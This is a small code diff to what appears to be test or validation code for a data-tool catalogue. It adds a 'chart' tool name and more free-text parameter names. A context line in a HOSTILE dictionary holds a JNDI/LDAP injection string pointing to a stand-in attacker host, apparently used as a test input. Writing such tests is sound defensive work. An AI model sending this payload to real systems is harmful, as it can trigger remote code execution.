@@ -41,6 +41,7 @@ OWN_TOOLS = {
     "compare_mirror",
     "usage",
     "query",
+    "chart",
     "trade_series",
     "trade_indicators",
     "exchange_rate",
@@ -60,7 +61,7 @@ HOSTILE = {
     "template": "${jndi:ldap://evil.example/a}",
 }
 
-FREE_TEXT = {"search", "query", "table", "columns", "sort", "filter"}
+FREE_TEXT = {"search", "query", "table", "columns", "sort", "filter", "only", "title", "unit"}
 """Words to filter by, or names in a stored answer: any printable text on one line may be right."""
 
 OF_SOURCES = [(tool.name, source, tool) for source in catalogue().sources.values() for tool in source.tools]
